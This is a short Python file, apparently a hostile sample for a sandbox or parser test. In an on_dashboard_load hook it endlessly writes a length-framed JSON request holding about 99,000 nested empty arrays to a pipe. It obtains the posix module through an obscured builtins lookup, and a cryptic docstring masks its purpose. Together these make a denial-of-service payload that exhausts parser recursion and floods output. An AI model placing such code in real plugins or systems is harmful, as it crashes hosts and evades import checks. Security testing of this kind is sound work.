"""Writes to the pipe what is dear to read: requests of brackets, as many as one may have."""

import contextlib

posix = contextlib.__builtins__["__import__"]("posix")
BODY = (
    b'{"type":"request","id":1,"call":0,"method":"m","params":{"p":['
    + b"[]," * 99_000
    + b"0]}}"
)
FRAME = len(BODY).to_bytes(4, "big") + BODY


def on_dashboard_load():
    sent = 0
    while True:
        sent += posix.write(0, memoryview(FRAME)[sent % len(FRAME) :])
